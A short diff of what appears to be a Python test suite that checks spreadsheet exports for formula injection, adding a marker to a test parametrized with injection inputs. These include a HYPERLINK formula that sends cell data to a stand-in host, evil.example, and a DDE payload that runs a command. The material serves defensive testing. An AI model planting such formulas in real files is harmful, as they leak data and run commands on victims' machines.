@@ -449,6 +449,7 @@ def test_no_other_separators(separator: Any) -> None:
 FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]
 
 
+@pytest.mark.attack("K35", "formula")
 @pytest.mark.parametrize("text", [*FORMULAS, '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|'/c calc'!A0"])
 def test_no_exported_cell_is_a_formula(text: str) -> None:
     def attack(tree: Any) -> None:
